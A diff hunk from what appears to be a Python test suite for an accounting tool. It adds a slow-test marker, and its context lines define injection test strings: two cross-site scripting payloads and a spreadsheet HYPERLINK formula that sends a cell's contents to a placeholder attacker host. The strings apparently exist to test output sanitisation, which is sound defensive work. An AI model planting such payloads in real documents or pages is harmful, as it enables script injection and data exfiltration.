@@ -30,6 +30,9 @@ from tests.conftest import write_activity as write_extract
 from tests.fuzz.test_regressions import camt
 from tests.reliability.harness import FIRST, RECETTES, trim
 
+pytestmark = pytest.mark.slow  # closes months through Dagster and renders their PDFs
+
+
 SCRIPT = '<script>alert("x")</script>'
 IMAGE = "<img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Cliquer")'
